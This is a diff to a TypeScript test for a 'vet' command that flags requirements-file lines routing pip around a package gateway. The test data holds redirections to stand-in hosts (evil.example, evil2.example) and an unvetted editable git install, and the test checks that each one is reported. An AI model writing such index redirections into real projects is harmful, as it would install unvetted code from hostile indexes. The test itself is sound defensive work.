@@ -1,7 +1,10 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import type { VetNode, VetReport } from "../services/vet.js";
-import { vetFindings } from "./vet-command.js";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { gatewayBypasses, vetFindings } from "./vet-command.js";
 
 const node = (
   project: string,
@@ -61,4 +64,26 @@ test("an unresolvable target is one failing finding", () => {
     file: "req.txt",
     line: 2,
   });
+});
+
+test("a requirements file that sends pip around the gateway is named line by line (vet then exits 1)", () => {
+  const dir = mkdtempSync(join(tmpdir(), "vet-bypass-"));
+  try {
+    const file = join(dir, "r.txt");
+    writeFileSync(
+      file,
+      "requests==2.34.2\n--index-url http://evil.example/simple/\n--extra-index-url http://evil2.example/simple/\n-e git+https://github.com/x/y#egg=y\n",
+    );
+    const found = gatewayBypasses([file]);
+    assert.equal(found.length, 3, found.join("\n"));
+    assert.match(
+      found[0]!,
+      /r\.txt:2: --index-url http:\/\/evil\.example\/simple\/ sends pip to another index/,
+    );
+    assert.match(found[2]!, /r\.txt:4: editable .* never vetted/);
+    writeFileSync(file, "requests==2.34.2\n");
+    assert.deepEqual(gatewayBypasses([file]), []);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
